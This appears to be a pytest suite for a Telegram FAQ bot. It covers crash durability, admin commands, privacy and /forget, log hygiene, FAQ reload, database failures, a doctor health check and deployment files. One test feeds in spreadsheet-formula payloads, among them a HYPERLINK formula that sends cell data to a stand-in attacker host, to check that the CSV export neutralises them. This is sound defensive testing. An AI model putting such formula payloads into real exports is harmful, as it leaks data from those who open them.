"""Operating the bot: the real `python -m bot run` process and the shell commands, against the stand-in.

Durability under kill -9, admin commands, /privacy and /forget, /reload, a database the bot cannot
use, BOT_NO_STORE, `python -m bot doctor`, and what the logs say (and do not say).
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import urllib.parse
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from types import SimpleNamespace

import pytest
import yaml

from botproc import ROOT, SECRET, TOKEN, BotProcess, running_bot, wait_until
from standin import BotAPIStandIn
from test_store import _can_enforce_modes, _drop_file_capabilities, abstained, exclusively_locked

from bot.health import HEARTBEAT_FILE
from bot.store import DB_FILE, KEY_FILE, Store

ADMIN, ADMIN_2, ADMIN_3 = 900, 901, 902  # several admins: each user may send only 8 messages in 30 s
GROUP = -1001234567000
PLACE_QUESTION = "Where was the ministerial meeting held?"
OFF_TOPIC = [
    "recommend a vegan bakery please",
    "how do I renew my passport",
    "what is the capital of peru",
    "tell me a joke about penguins",
    "which laptop should I buy",
    "best hiking trail for beginners",
    "how to bake sourdough bread",
    "who won the football match yesterday",
    "how tall is a giraffe",
    "can you fix my bicycle chain",
]


# --- helpers ---------------------------------------------------------------------------------


def ask(bot: BotProcess, chat_id: int, text: str, user_id: int | None = None, timeout: float = 10, **sender) -> dict:
    """Send a message and return the bot's next message in that chat."""
    before = len(bot.api.bot_messages(chat_id))
    bot.api.send_text(chat_id, text, user_id=user_id if user_id is not None else (chat_id if chat_id > 0 else 1), **sender)
    return bot.api.wait_for_messages(chat_id, before + 1, timeout)[before]


def quotes(message: dict) -> list[dict]:
    return [e for e in message.get("entities", []) if e["type"] == "blockquote"]


@contextmanager
def db(data_dir: Path) -> Iterator[sqlite3.Connection]:
    """A read-only look at the running bot's store."""
    conn = sqlite3.connect(f"file:{data_dir / DB_FILE}?mode=ro", uri=True)
    try:
        yield conn
    finally:
        conn.close()


def inbox_pending(data_dir: Path) -> int:
    with db(data_dir) as conn:
        return conn.execute("SELECT COUNT(*) FROM inbox WHERE done IS NULL").fetchone()[0]


def user_hash(data_dir: Path, user_id: int) -> str:
    key = (data_dir / KEY_FILE).read_text().strip()
    return Store.user_hash(SimpleNamespace(_key=bytes.fromhex(key)), user_id)


def stored_texts(data_dir: Path) -> list[str]:
    with db(data_dir) as conn:
        return [text for (text,) in conn.execute("SELECT text FROM questions")]


def shell(
    *args: str, data_dir: Path, api: BotAPIStandIn | None = None, timeout: float = 60, honour_modes: bool = False, **env: str
) -> subprocess.CompletedProcess[str]:
    """`python -m bot ARGS` as an operator runs it, with the bot's environment; with `honour_modes`,
    file modes bind it even when the tests run as root (as they would an unprivileged service user)."""
    base = {k: v for k, v in os.environ.items() if not k.startswith(("TELEGRAM_", "BOT_"))}
    base.update(TELEGRAM_BOT_TOKEN=TOKEN, BOT_DATA_DIR=str(data_dir), PYTHONPATH=str(ROOT), PYTHONUNBUFFERED="1")
    base["TELEGRAM_BASE_URL"] = api.base_url if api else "http://127.0.0.1:9/bot"  # port 9: nothing listens
    base.update(env)
    drop = _drop_file_capabilities if honour_modes and os.geteuid() == 0 else None
    return subprocess.run(
        [sys.executable, "-m", "bot", *args], cwd=ROOT, env=base, capture_output=True, text=True, timeout=timeout, preexec_fn=drop
    )


def assert_one_clear_line(done: subprocess.CompletedProcess[str], *words: str) -> None:
    assert done.returncode not in (0, None), f"exit {done.returncode}"
    output = (done.stdout + done.stderr).strip()
    assert "Traceback" not in output, output
    lines = output.splitlines()
    assert len(lines) == 1, f"expected one line, got:\n{output}"
    assert lines[0].startswith("error: ")
    for word in words:
        assert word in lines[0], f"{word!r} not in {lines[0]!r}"


# --- the shared bot ------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def faq_dir(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("faq")
    shutil.copytree(ROOT / "faq", folder, dirs_exist_ok=True)
    return folder


@pytest.fixture(scope="module")
def bot(faq_dir):
    """One bot for the tests that do not need a fresh process; each test uses its own users."""
    with running_bot(BOT_ADMINS=f"{ADMIN},{ADMIN_2},{ADMIN_3}", BOT_FAQ_DIR=str(faq_dir), BOT_RETENTION_DAYS="30") as bot:
        yield bot


# --- durability ----------------------------------------------------------------------------------


def test_kill_9_mid_burst_loses_no_question_that_was_answered(tmp_path):
    """The reply goes out only after the row is committed: whatever a user saw is on disk."""
    data_dir = tmp_path / "data"
    users = range(5000, 5040)
    questions = {}  # every other user asks something the article does not answer, each text unique
    for n, user in enumerate(users):
        questions[user] = OFF_TOPIC[n // 2 % len(OFF_TOPIC)] + (" please" if n >= 20 else "") if n % 2 else "What is K-SCON?"
    with running_bot(data_dir=data_dir) as bot:
        bot.api.inject("sendMessage", "stall", count=3)  # three replies hang in flight when the bot dies
        for user, text in questions.items():
            bot.api.send_text(user, text, user_id=user)
        bot.api.wait_for(lambda: len(bot.api.bot_messages()) >= 15, timeout=20, what="15 replies")
        # While another writer holds the database (for less than the bot's 2 s busy timeout), the
        # bot cannot commit, so it must not reply either; then it dies with those writes pending.
        holder = sqlite3.connect(data_dir / DB_FILE, isolation_level=None, timeout=5)
        holder.execute("BEGIN IMMEDIATE")
        try:
            late = {user: f"{OFF_TOPIC[user % len(OFF_TOPIC)]} while the disk was busy" for user in range(5100, 5105)}
            questions.update(late)
            for user, text in late.items():
                bot.api.send_text(user, text, user_id=user)
            time.sleep(0.5)
            early = [m["text"] for user in late for m in bot.api.bot_messages(user)]
            bot.process.send_signal(signal.SIGKILL)
            assert bot.process.wait(10) == -signal.SIGKILL
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        replied = {m["chat"]["id"]: m for m in bot.api.bot_messages() if m["chat"]["id"] in questions}
    assert not early, f"replied before the question could be stored: {early}"
    assert 15 <= len(replied) < len(questions), "killed mid-burst"

    store = Store(data_dir)  # recovers the WAL as the restarted bot would
    try:
        counted = store.stats().total
        kept = {text for (text,) in store._db.execute("SELECT text FROM questions")}
    finally:
        store.close()
    assert counted >= len(replied) + 3, f"{len(replied)} replies seen, 3 in flight, but only {counted} questions counted"
    abstentions = {questions[chat] for chat, reply in replied.items() if not quotes(reply)}
    assert abstentions, "some of the replied questions were off-topic"
    assert abstentions <= kept, f"answered abstentions missing from the store: {abstentions - kept}"


# --- admin commands -------------------------------------------------------------------------------


def test_admin_commands_do_not_exist_for_anyone_else(bot):
    user = 7001
    unknown = ask(bot, user, "/nosuchcommand")["text"]
    for command in ("/stats", "/unanswered", "/reload"):
        reply = ask(bot, user, command)["text"]
        assert reply == unknown, f"{command} answered a non-admin differently from an unknown command"
    assert "questions today" not in unknown
    assert {m["text"] for m in bot.api.bot_messages(user)} == {unknown}, "no stats leaked in any reply"


def unanswered(bot, admin: int) -> list[str]:
    """/unanswered: a header that counts what follows, then a message each."""
    before = len(bot.api.bot_messages(admin))
    header = ask(bot, admin, "/unanswered")["text"]
    count = sum(map(int, re.findall(r"[0-9]+", header)[:2])) if "To teach" in header else 0
    return [m["text"] for m in bot.api.wait_for_messages(admin, before + 1 + count)[before + 1 :]]


def test_admins_get_stats_and_the_unanswered_questions(bot):
    question = "recommend a vegan bakery please"
    reply = ask(bot, 7003, question)
    assert not quotes(reply), "an off-topic question is an abstention"
    stats = ask(bot, ADMIN, "/stats")["text"]
    assert "questions today:" in stats and "answered:" in stats
    assert int(stats.split("questions today:")[1].split()[0]) >= 1
    assert any(question in text for text in unanswered(bot, ADMIN_2))


def test_unanswered_fits_one_message_however_wide_its_characters(bot):
    """Telegram counts UTF-16 units: one stored question of 2,048 emoji is 4,096 of them."""
    ask(bot, 7005, "🙂" * 2048)
    assert any("1× “🙂🙂" in text for text in unanswered(bot, ADMIN))
    assert not [c for c in bot.api.calls("sendMessage") if c["status"] == 400]


def test_shell_reports_read_the_running_bots_store(bot):
    question = "how do I renew my passport"
    ask(bot, 7004, question)
    stats = shell("stats", data_dir=bot.data_dir)
    assert stats.returncode == 0, stats.stderr
    assert "questions all time:" in stats.stdout
    done = shell("unanswered", "--csv", data_dir=bot.data_dir)
    assert done.returncode == 0, done.stderr
    table = list(csv.reader(io.StringIO(done.stdout)))
    assert table[0] == ["count", "question", "last_asked_utc", "nearest_entry"]
    assert question in [row[1] for row in table[1:]]
    assert ask(bot, 7004, PLACE_QUESTION)["text"], "the bot still answers while the shell reads"


def test_a_shell_report_or_check_never_deletes_even_without_the_bots_retention_setting(tmp_path):
    """A report or doctor from a plain shell (no BOT_RETENTION_DAYS, so the default 90) must not purge."""
    data_dir = tmp_path / "data"
    store = Store(data_dir, retention_days=365)
    store.record_question(abstained("asked 200 days ago"), "private", 1, at=time.time() - 200 * 86400)
    store.close()
    before = (data_dir / DB_FILE).read_bytes()
    for command in ("stats", "unanswered", "doctor"):
        done = shell(command, data_dir=data_dir)
        assert "store opens" in done.stdout or done.returncode == 0, done.stdout + done.stderr
    with db(data_dir) as conn:
        assert conn.execute("SELECT text FROM questions").fetchall() == [("asked 200 days ago",)]
    assert (data_dir / DB_FILE).read_bytes() == before, "the report changed the database file"


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path):
    data_dir = tmp_path / "data"
    store = Store(data_dir)
    hostile = ["=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")", "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1"]
    for text in hostile + ["what is k-pop"]:
        store.record_question(abstained(text), "private", 1)
    store.close()
    done = shell("unanswered", "--csv", data_dir=data_dir)
    assert done.returncode == 0, done.stderr
    cells = [row[1] for row in list(csv.reader(io.StringIO(done.stdout)))[1:]]
    assert sorted(cells) == sorted(["'" + text for text in hostile] + ["what is k-pop"])


# --- privacy ---------------------------------------------------------------------------------------


def test_privacy_says_what_is_kept_and_for_how_long(bot):
    text = ask(bot, 7010, "/privacy")["text"]
    assert "30 days" in text, "the retention period is BOT_RETENTION_DAYS"
    assert "/forget" in text and "No names" in text and "hash" in text
    assert "pseudonymous" in text, "a keyed hash links rows to a user for whoever holds the key: not anonymous"


def test_forget_deletes_the_users_rows_and_only_theirs(bot):
    me, other = 7011, 7012
    ask(bot, other, "what is the capital of peru")
    ask(bot, me, "tell me a joke about penguins")
    ask(bot, me, "which laptop should I buy")
    answer = ask(bot, me, "What is K-SCON?")
    up = next(b for row in answer["reply_markup"]["inline_keyboard"] for b in row if b["text"] == "👍")
    bot.api.send_callback(me, me, up["callback_data"], message=answer)
    digest = user_hash(bot.data_dir, me)

    def mine() -> int:
        with db(bot.data_dir) as conn:
            return sum(conn.execute(f"SELECT COUNT(*) FROM {table} WHERE user_hash = ?", (digest,)).fetchone()[0] for table in ("questions", "feedback"))

    count = wait_until(lambda: mine() >= 3 and mine(), what="the questions and the vote to be stored")
    reply = ask(bot, me, "/forget")["text"]
    assert f"Deleted {count} of your records" in reply
    assert mine() == 0
    assert "what is the capital of peru" in stored_texts(bot.data_dir), "other users' rows stay"
    assert "Deleted 0 of your records" in ask(bot, me, "/forget")["text"]


def test_forget_also_covers_an_inline_query_still_settling(tmp_path):
    """A clean stop stores a settling inline query at once (the test below): stopping right after
    /forget shows, without waiting out the settling time, that the forgotten one is not among them."""
    me, data_dir = 7014, tmp_path / "data"
    with running_bot(data_dir=data_dir) as bot:
        bot.api.send_inline_query(me, "is there a zoo near the venue")
        bot.api.wait_for(lambda: bot.api.calls("answerInlineQuery"), what="the inline answer")
        assert "Deleted" in ask(bot, me, "/forget")["text"]
        assert bot.stop() == 0
    assert "is there a zoo near the venue" not in stored_texts(data_dir), "a question stored after the user asked to be forgotten"


ANONYMOUS_ADMIN = 1087968824  # GroupAnonymousBot: every group's anonymous admins arrive as this one user


def test_anonymous_admins_of_two_groups_are_kept_apart_and_cannot_forget_for_each_other(bot):
    one, two = GROUP - 20, GROUP - 21
    as_group = lambda chat: {"sender_chat": {"id": chat, "type": "supergroup", "title": "Test group"}, "chat_type": "supergroup"}
    ask(bot, one, "/ask how to bake sourdough bread", user_id=ANONYMOUS_ADMIN, **as_group(one))
    ask(bot, two, "/ask can you fix my bicycle chain", user_id=ANONYMOUS_ADMIN, **as_group(two))
    with db(bot.data_dir) as conn:
        kept = dict(conn.execute("SELECT text, user_hash FROM questions WHERE text IN ('how to bake sourdough bread', 'can you fix my bicycle chain')"))
    assert kept == {"how to bake sourdough bread": user_hash(bot.data_dir, one), "can you fix my bicycle chain": user_hash(bot.data_dir, two)}
    refusal = ask(bot, one, "/forget", user_id=ANONYMOUS_ADMIN, **as_group(one))["text"]
    assert "many people share" in refusal and "private chat" in refusal
    assert {"how to bake sourdough bread", "can you fix my bicycle chain"} <= set(stored_texts(bot.data_dir)), "nothing deleted"


def test_the_hash_key_is_a_0600_file_beside_the_store(bot):
    ask(bot, 7015, "/privacy")
    key_file = bot.data_dir / KEY_FILE
    assert key_file.stat().st_mode & 0o777 == 0o600
    files = b"".join(p.read_bytes() for p in bot.data_dir.iterdir() if p.name.startswith(DB_FILE))
    assert key_file.read_text().strip().encode() not in files


def test_no_name_or_username_is_stored_and_raw_ids_only_until_answered(bot):
    """The inbox must hold the chat and user ids until the answer is out; names it never needs."""
    user = 987_123_456
    ask(bot, user, "how tall is a giraffe", first_name="Zebulon", username="zebulon_the_tester")
    ask(bot, GROUP - 1, "@kscity_faq_bot how tall is a giraffe", user_id=user, chat_type="supergroup", username="zebulon_the_tester")
    bot.api.wait_for(lambda: not inbox_pending(bot.data_dir), what="the inbox to mark both answered")
    files = b"".join(p.read_bytes() for p in bot.data_dir.iterdir() if p.name.startswith(DB_FILE))
    for secret in ("Zebulon", "zebulon_the_tester", "Test group"):
        assert secret.encode() not in files
    with db(bot.data_dir) as conn:
        rows = "\n".join(conn.iterdump())
    assert str(user) not in rows, "a raw user id left in the store after the answer"
    assert "how tall is a giraffe" in stored_texts(bot.data_dir)


def test_group_questions_are_stored_with_chat_type_group(bot):
    text = "who won the football match yesterday"
    ask(bot, GROUP - 2, f"/ask {text}", user_id=7013, chat_type="supergroup")
    with db(bot.data_dir) as conn:
        (chat_type,) = conn.execute("SELECT chat_type FROM questions WHERE text = ?", (text,)).fetchone()
    assert chat_type == "group"


# --- logs --------------------------------------------------------------------------------------------


def test_question_text_is_not_logged_at_info(bot):
    secret_question = "is the purple walrus festival open tonight"
    ask(bot, 7020, secret_question)
    ask(bot, GROUP - 3, f"/ask {secret_question} in the group", user_id=7020, chat_type="supergroup")
    inline_answers = len(bot.api.calls("answerInlineQuery"))
    bot.api.send_inline_query(7020, secret_question + " inline")
    bot.api.wait_for(lambda: len(bot.api.calls("answerInlineQuery")) > inline_answers, what="the inline answer")
    assert secret_question in " ".join(stored_texts(bot.data_dir)), "the question reached the store"
    assert "purple walrus" not in bot.output


def test_json_logs_are_one_object_per_line_from_start_to_stop():
    with running_bot(LOG_FORMAT="json", BOT_ADMINS=str(ADMIN)) as bot:
        question = "is the crimson otter parade cancelled"
        ask(bot, 7030, question)
        answer = ask(bot, 7031, "What is K-SCON?")
        bot.api.send_callback(7031, 7031, "garbage", message=answer)
        ask(bot, 7032, "/stats")
        ask(bot, ADMIN, "/stats")
        for n in range(10):  # a flooding user is logged too
            bot.api.send_text(7033, f"K-SCON? {n}", user_id=7033)
        bot.api.wait_for(lambda: len(bot.api.bot_messages(7033)) >= 9, what="the flooding user's replies")
        assert bot.stop() == 0
        output = bot.output
    lines = [line for line in output.splitlines() if line.strip()]
    assert len(lines) >= 3, output
    for line in lines:
        event = json.loads(line)  # every line, including start-up and shutdown
        assert {"time", "level", "logger", "message"} <= set(event)
    messages = " ".join(json.loads(line)["message"] for line in lines)
    assert "started as @kscity_faq_bot" in messages
    assert "over the question limit" in messages
    assert "crimson otter" not in output and "K-SCON? 3" not in output


def test_a_clean_stop_right_after_an_inline_query_stores_it_and_logs_no_error(tmp_path):
    data_dir = tmp_path / "data"
    with running_bot(data_dir=data_dir, LOG_FORMAT="json") as bot:
        bot.api.send_inline_query(7035, "is the aquarium open on sunday")
        bot.api.wait_for(lambda: bot.api.calls("answerInlineQuery"), what="the inline answer")
        assert bot.stop() == 0
        levels = [json.loads(line)["level"] for line in bot.output.splitlines() if line.strip()]
    assert "ERROR" not in levels
    with db(data_dir) as conn:
        assert conn.execute("SELECT chat_type FROM questions WHERE text = 'is the aquarium open on sunday'").fetchall() == [("inline",)]


# --- /reload -----------------------------------------------------------------------------------------


def test_reload_keeps_the_old_faq_on_error_and_swaps_when_fixed(bot, faq_dir):
    entries_file = faq_dir / "faq.yaml"
    original = entries_file.read_text(encoding="utf-8")
    entries = yaml.safe_load(original)
    before = ask(bot, 7040, PLACE_QUESTION)
    assert quotes(before)
    try:
        broken = [dict(e) for e in entries]
        broken[1]["id"] = broken[0]["id"]
        entries_file.write_text(yaml.safe_dump(broken, allow_unicode=True, sort_keys=False), encoding="utf-8")
        failed = ask(bot, ADMIN_3, "/reload")["text"]
        assert "previous FAQ stays in use" in failed
        assert "faq.yaml" in failed and "used twice" in failed, "the reply carries the validation message"
        still = ask(bot, 7041, PLACE_QUESTION)
        assert still["text"] == before["text"], "the old FAQ still answers"

        revised = [dict(e, answer=dict(e["answer"], en=e["answer"]["en"] + " (revised)")) for e in entries]
        entries_file.write_text(yaml.safe_dump(revised, allow_unicode=True, sort_keys=False), encoding="utf-8")
        bot.api.send_text(ADMIN_3, "/reload", user_id=ADMIN_3)
        for user in range(7042, 7047):  # questions racing the swap: each answered from one FAQ or the other
            bot.api.send_text(user, PLACE_QUESTION, user_id=user)
        done = bot.api.wait_for_messages(ADMIN_3, 2)[-1]["text"]
        assert f"FAQ reloaded: {len(entries)} entries" in done
        for user in range(7042, 7047):
            text = bot.api.wait_for_messages(user, 1)[0]["text"]
            assert text == before["text"] or "(revised)" in text
        after = ask(bot, 7047, PLACE_QUESTION)
        assert "(revised)" in after["text"] and quotes(after)
    finally:
        entries_file.write_text(original, encoding="utf-8")


# --- Telegram's flood limits ----------------------------------------------------------------------------


def test_a_group_over_its_limit_does_not_hold_up_private_chats():
    api = BotAPIStandIn(TOKEN, flood_limits=True).start()
    try:
        with running_bot(api=api):
            for n in range(21):  # a lively group: 21 questions from 21 members within a minute
                api.send_text(GROUP - 50, "/ask What is K-SCON?", user_id=8000 + n, chat_type="supergroup")
            time.sleep(4)  # the bot's group bucket lets the 21st answer out 3 s after the first 20
            started = time.monotonic()
            api.send_text(8100, "What is K-SCON?", user_id=8100)
            try:
                api.wait_for_messages(8100, 1, timeout=3)
            except AssertionError:
                pytest.fail(f"a private question waited over 3 s behind a throttled group ({api.sends_throttled} 429s issued)")
            assert time.monotonic() - started < 3
    finally:
        api.stop()


# --- a database the bot cannot use ---------------------------------------------------------------------


def test_corrupt_database_at_start_is_one_line_and_a_non_zero_exit(tmp_path):
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    (data_dir / DB_FILE).write_bytes(b"\x00garbage\xff" * 500)
    done = shell("run", data_dir=data_dir)
    assert_one_clear_line(done, "corrupt", "BOT_NO_STORE=1")


def test_locked_database_at_start_is_one_line_and_a_non_zero_exit(tmp_path):
    data_dir = tmp_path / "data"
    Store(data_dir).close()
    with exclusively_locked(data_dir / DB_FILE):
        done = shell("run", data_dir=data_dir)
    assert_one_clear_line(done, "locked")


def test_read_only_database_at_start_is_one_line_and_a_non_zero_exit(tmp_path):
    if not _can_enforce_modes(tmp_path):
        pytest.skip("file modes cannot be enforced here: running as root and CAP_DAC_OVERRIDE cannot be dropped")
    data_dir = tmp_path / "data"
    Store(data_dir).close()
    for sidecar in ("-wal", "-shm"):
        (data_dir / (DB_FILE + sidecar)).unlink(missing_ok=True)
    (data_dir / DB_FILE).chmod(0o444)
    data_dir.chmod(0o555)
    try:
        done = shell("run", data_dir=data_dir, honour_modes=True)
    finally:
        data_dir.chmod(0o755)
    assert_one_clear_line(done, "cannot be written", "BOT_DATA_DIR")


def test_no_store_runs_even_beside_a_corrupt_database(tmp_path):
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    garbage = b"not a database" * 100
    (data_dir / DB_FILE).write_bytes(garbage)
    with running_bot(data_dir=data_dir, BOT_NO_STORE="1", BOT_ADMINS=str(ADMIN)) as bot:
        assert quotes(ask(bot, 7050, PLACE_QUESTION))
        assert ask(bot, 7050, "recommend a vegan bakery please")["text"]
        assert "keeps nothing" in ask(bot, 7050, "/privacy")["text"]
        assert "Deleted 0" in ask(bot, 7050, "/forget")["text"]
        assert "keeps nothing" in ask(bot, ADMIN, "/stats")["text"]
        assert bot.stop() == 0
        assert "Traceback" not in bot.output
    assert (data_dir / DB_FILE).read_bytes() == garbage
    assert sorted(p.name for p in data_dir.iterdir()) == [DB_FILE, HEARTBEAT_FILE], "nothing kept but the liveness file (a time, no data)"


# --- installing ------------------------------------------------------------------------------------------


def test_the_installed_package_runs_outside_the_checkout(tmp_path):
    pytest.importorskip("setuptools")
    source = tmp_path / "src"
    source.mkdir()
    for name in ("bot", "faq"):
        shutil.copytree(ROOT / name, source / name, ignore=shutil.ignore_patterns("__pycache__"))
    for name in ("pyproject.toml", "README.md"):
        shutil.copy(ROOT / name, source / name)
    target = tmp_path / "site"
    install = subprocess.run(
        [sys.executable, "-m", "pip", "install", "-q", "--no-deps", "--no-build-isolation", "--no-index", "--target", str(target), str(source)],
        capture_output=True, text=True, timeout=120,
    )
    assert install.returncode == 0, install.stderr
    env = {k: v for k, v in os.environ.items() if not k.startswith(("TELEGRAM_", "BOT_"))}
    env["PYTHONPATH"] = str(target)
    done = subprocess.run([sys.executable, "-c", "import bot.app, bot.faq; bot.faq.load_faq()"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr.strip().splitlines()[-1]
    evaluation = subprocess.run([sys.executable, "-m", "bot", "eval"], cwd=tmp_path, env=env, capture_output=True, text=True, timeout=60)
    assert evaluation.returncode == 2 and "give a TSV file" in evaluation.stderr, "eval without a file says what to pass"
    assert len(evaluation.stderr.strip().splitlines()) == 1 and "Traceback" not in evaluation.stderr


# --- doctor ---------------------------------------------------------------------------------------------


def test_doctor_says_ready_against_a_working_api(bot, tmp_path):
    done = shell("doctor", data_dir=tmp_path / "data", api=bot.api)
    assert done.returncode == 0, done.stdout + done.stderr
    out = done.stdout
    assert "@kscity_faq_bot" in out
    assert "inline mode on" in out and "privacy mode on" in out
    assert "no webhook set" in out and "FAQ valid" in out and "data folder writable" in out
    assert out.strip().splitlines()[-1] == "verdict: ready to run"
    assert "Traceback" not in done.stderr


def test_doctor_reports_a_set_webhook(tmp_path):
    with BotAPIStandIn(TOKEN) as api:
        body = urllib.parse.urlencode({"url": "https://example.org/telegram"}).encode()
        with urllib.request.urlopen(f"{api.base_url}{TOKEN}/setWebhook", body, timeout=10) as answer:  # as a webhook deployment leaves it
            assert json.load(answer)["ok"]
        done = shell("doctor", data_dir=tmp_path / "data", api=api)
    assert "webhook set to https://example.org/telegram" in done.stdout


def test_doctor_never_prints_the_token_of_a_webhook_url_that_holds_it(tmp_path):
    """A common set-up puts the token in the webhook path; doctor reports the URL without it."""
    with BotAPIStandIn(TOKEN) as api:
        body = urllib.parse.urlencode({"url": f"https://example.org/{TOKEN}"}).encode()
        with urllib.request.urlopen(f"{api.base_url}{TOKEN}/setWebhook", body, timeout=10) as answer:
            assert json.load(answer)["ok"]
        done = shell("doctor", data_dir=tmp_path / "data", api=api)
    assert "webhook set to https://example.org/<token>" in done.stdout, done.stdout
    assert SECRET not in done.stdout + done.stderr


@pytest.mark.parametrize("setting", ["BOT_ADMINS", "LOG_LEVEL", "BOT_ALLOWED_CHATS", "BOT_RETENTION_DAYS", "BOT_WEBHOOK_URL"])
@pytest.mark.parametrize("command", ["run", "doctor"])
def test_a_token_pasted_into_the_wrong_setting_is_not_echoed(tmp_path, setting, command):
    value = f"http://bot.example.org/{TOKEN}" if setting == "BOT_WEBHOOK_URL" else TOKEN
    done = shell(command, data_dir=tmp_path / "data", **{setting: value})
    assert done.returncode != 0
    assert setting in done.stdout + done.stderr, "the error still names the setting to fix"
    assert SECRET.lower() not in (done.stdout + done.stderr).lower(), "not even case-folded (LOG_LEVEL is upper-cased)"


@pytest.mark.parametrize(
    ("env", "expected"),
    [
        ({"TELEGRAM_BOT_TOKEN": "7000001:AAWrongTokenWrongTokenWrong_123"}, "rejected the token"),
        ({"TELEGRAM_BASE_URL": "http://127.0.0.1:9/bot"}, "cannot reach the Bot API"),
        ({"BOT_FAQ_DIR": "/nonexistent/faq"}, "FAQ invalid"),
        ({"TELEGRAM_BOT_TOKEN": ""}, "TELEGRAM_BOT_TOKEN is not set"),
    ],
    ids=["wrong-token", "unreachable", "bad-faq", "no-token"],
)
def test_doctor_says_not_ready_and_exits_1(bot, tmp_path, env, expected):
    done = shell("doctor", data_dir=tmp_path / "data", api=bot.api, **env)
    assert done.returncode == 1, done.stdout + done.stderr
    assert expected in done.stdout
    assert "[FAIL]" in done.stdout and "NOT ready" in done.stdout.strip().splitlines()[-1]
    assert "Traceback" not in done.stderr and TOKEN.split(":")[1] not in done.stdout + done.stderr


def test_doctor_reads_the_faq_folder_as_every_command_does_faq_over_bot_faq_dir(bot, tmp_path, faq_dir):
    done = shell("--faq", str(tmp_path / "nowhere"), "doctor", data_dir=tmp_path / "data", api=bot.api, BOT_FAQ_DIR=str(faq_dir))
    assert done.returncode == 1 and "FAQ invalid" in done.stdout and "nowhere" in done.stdout
    done = shell("doctor", data_dir=tmp_path / "data", api=bot.api, BOT_FAQ_DIR=str(faq_dir))
    assert done.returncode == 0 and f"entries in {faq_dir}" in done.stdout, done.stdout


def test_doctor_live_tells_a_live_bot_from_a_stopped_or_hung_one(tmp_path):
    """The Docker HEALTHCHECK: the bot's heartbeat file, touched while it polls, must be recent."""
    assert "no heartbeat" in shell("doctor", "--live", data_dir=tmp_path / "nowhere").stdout
    with running_bot(data_dir=tmp_path / "data") as bot:
        heartbeat = wait_until(lambda: (bot.data_dir / HEARTBEAT_FILE).is_file() and bot.data_dir / HEARTBEAT_FILE, what="the first heartbeat")
        live = shell("doctor", "--live", data_dir=bot.data_dir)
        assert live.returncode == 0 and live.stdout.startswith("[ok  ] alive"), live.stdout + live.stderr
        bot.stop()
    old = time.time() - 120
    os.utime(heartbeat, (old, old))  # as a bot that stopped touching it two minutes ago
    hung = shell("doctor", "--live", data_dir=heartbeat.parent)
    assert hung.returncode == 1 and "hung or stopped" in hung.stdout
    assert len(hung.stdout.strip().splitlines()) == 1


def test_doctor_is_not_ready_when_the_bot_could_not_open_its_store(bot, tmp_path):
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    (data_dir / DB_FILE).write_bytes(b"\x00garbage\xff" * 500)
    assert shell("run", data_dir=data_dir, api=bot.api).returncode != 0
    done = shell("doctor", data_dir=data_dir, api=bot.api)
    assert done.returncode == 1, done.stdout
    assert "corrupt" in done.stdout


def test_doctor_fails_on_a_data_folder_it_cannot_write(bot, tmp_path):
    if not _can_enforce_modes(tmp_path):
        pytest.skip("file modes cannot be enforced here: running as root and CAP_DAC_OVERRIDE cannot be dropped")
    data_dir = tmp_path / "data"
    data_dir.mkdir()
    data_dir.chmod(0o555)
    try:
        done = shell("doctor", data_dir=data_dir, api=bot.api, honour_modes=True)
    finally:
        data_dir.chmod(0o755)
    assert done.returncode == 1, done.stdout
    assert "not writable" in done.stdout


# --- the deployment files --------------------------------------------------------------------------------


def settings_the_bot_reads() -> set[str]:
    names = set()
    for path in (ROOT / "bot").rglob("*.py"):
        names |= set(re.findall(r"""env(?:iron)?(?:\.get\(|\[)\s*["']([A-Z][A-Z0-9_]+)["']""", path.read_text(encoding="utf-8")))
        names |= set(re.findall(r"""_number\(env,\s*["']([A-Z][A-Z0-9_]+)["']""", path.read_text(encoding="utf-8")))
    return names


def test_env_example_documents_every_setting_the_bot_reads_and_no_real_token():
    text = (ROOT / ".env.example").read_text(encoding="utf-8")
    documented = set(re.findall(r"^#? ?([A-Z][A-Z0-9_]+)=", text, flags=re.MULTILINE))
    read = settings_the_bot_reads()
    assert len(read) >= 15, read
    assert read <= documented, f"undocumented: {sorted(read - documented)}"
    assert documented <= read, f"documented but never read: {sorted(documented - read)}"
    tokens = re.findall(r"^TELEGRAM_BOT_TOKEN=(.*)$", text, flags=re.MULTILINE)
    assert tokens and all("replace" in t for t in tokens), "only a placeholder token"
    for line in text.splitlines():
        if line and not line.startswith("#"):
            assert re.fullmatch(r"[A-Z][A-Z0-9_]+=[^\"' #]*", line), f"Docker's --env-file would take this literally: {line!r}"
    assert not re.search(r"^BOT_DATA_DIR=", text, flags=re.MULTILINE), "the unit and the image set the data folder"


def unit_settings() -> dict[str, list[str]]:
    settings: dict[str, list[str]] = {}
    for line in (ROOT / "deploy" / "kscity-faq-bot.service").read_text(encoding="utf-8").splitlines():
        if "=" in line and not line.startswith(("#", ";", "[")):
            key, value = line.split("=", 1)
            settings.setdefault(key.strip(), []).append(value.strip())
    return settings


def test_systemd_unit_runs_the_bot_sandboxed_as_its_own_user():
    unit = unit_settings()
    assert unit["User"] == ["kscity-faq-bot"]
    assert unit["ExecStart"][0].endswith("python -m bot run") and unit["ExecStart"][0].startswith("/opt/")
    assert unit["WorkingDirectory"] == ["/opt/kscity-faq-bot"]
    assert unit["EnvironmentFile"] == ["/etc/kscity-faq-bot/env"]
    assert "BOT_DATA_DIR=/var/lib/kscity-faq-bot" in unit["Environment"]
    assert unit["Restart"] == ["on-failure"]
    assert unit["StartLimitIntervalSec"] == ["0"], "restarted forever, never left failed"
    assert unit["RestartSteps"] and unit["RestartMaxDelaySec"] == ["300"], "with a growing wait"
    assert unit["RestartPreventExitStatus"] == ["2"]
    assert unit["ReadWritePaths"] == ["/var/lib/kscity-faq-bot"], "the data folder is the only writable path"
